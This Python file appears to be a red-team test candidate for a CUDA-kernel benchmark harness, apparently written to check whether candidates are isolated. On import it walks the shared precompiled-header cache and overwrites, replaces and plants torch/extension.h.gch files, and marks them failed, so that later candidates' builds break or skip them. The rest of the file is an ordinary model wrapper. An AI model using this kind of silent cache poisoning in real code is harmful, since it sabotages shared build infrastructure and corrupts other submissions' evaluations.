# Exploit: goes after the precompiled torch/extension.h that later candidates' builds read (the folder named in
# redteam_pch.txt beside this file, the build cache's pch/). For every saved header it finds it tries to append to it,
# to put a file of its own in its place, to mark its flags as failed (so that no later build uses it), and to plant a
# header of its own beside it for other flags. Otherwise an honest candidate.
import os

import torch

import cuda_extension

_MARK = b"redteam poison: this precompiled header was writable\n"


def _pch_folder():
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "redteam_pch.txt")) as f:
        return f.read().strip()


def _attempt(action):
    try:
        action()
    except OSError:
        pass


def _write(path, mode):
    with open(path, mode) as f:
        f.write(_MARK)


def _poison(root):
    headers = []
    for folder, _dirs, files in os.walk(root):
        headers += [os.path.join(folder, name) for name in files if name.endswith(".gch")]
    for header in headers:
        _attempt(lambda: _write(header, "ab"))
        planted = header + ".redteam-poison"
        _attempt(lambda: _write(planted, "wb"))
        _attempt(lambda: os.replace(planted, header))
        key_folder = os.path.dirname(os.path.dirname(header))  # <pch>/<key>/torch/extension.h.gch
        _attempt(lambda: _write(key_folder + ".failed", "wb"))
        other = os.path.join(root, "redteam-poison", "torch")
        _attempt(lambda: os.makedirs(other, exist_ok=True))
        _attempt(lambda: _write(os.path.join(other, "extension.h.gch"), "wb"))


_attempt(lambda: _poison(_pch_folder()))


class ModelNew(torch.nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, x, y):
        return cuda_extension.scale_shift(x, y, self.scale)
